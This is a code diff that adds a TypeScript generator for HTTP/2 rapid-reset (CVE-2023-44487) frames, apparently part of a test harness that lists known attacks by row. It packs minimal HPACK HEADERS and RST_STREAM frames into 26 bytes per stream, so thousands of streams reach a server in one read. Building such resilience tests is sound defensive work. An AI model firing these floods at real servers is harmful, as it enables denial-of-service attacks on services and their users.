@@ -47,6 +47,19 @@ function repeat(count: number, frameOf: (i: number) => Uint8Array): Buffer {
   return Buffer.concat([PREFACE, ...Array.from({ length: count }, (_, i) => frameOf(i))]);
 }
 
+/** HPACK of the shortest request that is one: POST, http, / and an authority that is indexed for those after it. */
+const SHORT_HEADERS = [Buffer.of(0x83, 0x86, 0x84, 0x41, 1, 0x61), Buffer.of(0x83, 0x86, 0x84, 0xbe)] as const;
+
+/** Rapid reset in 26 bytes a stream: 2,500 of them are in what Node reads at once. */
+export function shortResets(count: number): Buffer {
+  return repeat(count, (i) =>
+    Buffer.concat([
+      http2Frame(HEADERS, END_HEADERS, 2 * i + 1, SHORT_HEADERS[i === 0 ? 0 : 1]),
+      http2Frame(RST_STREAM, 0, 2 * i + 1, u32(8)),
+    ]),
+  );
+}
+
 /** The attacks of row S13, `count` frames each, with the preface before them. */
 export const ATTACKS: Record<string, (count: number) => Buffer> = {
   'rapid reset (CVE-2023-44487)': (count) =>
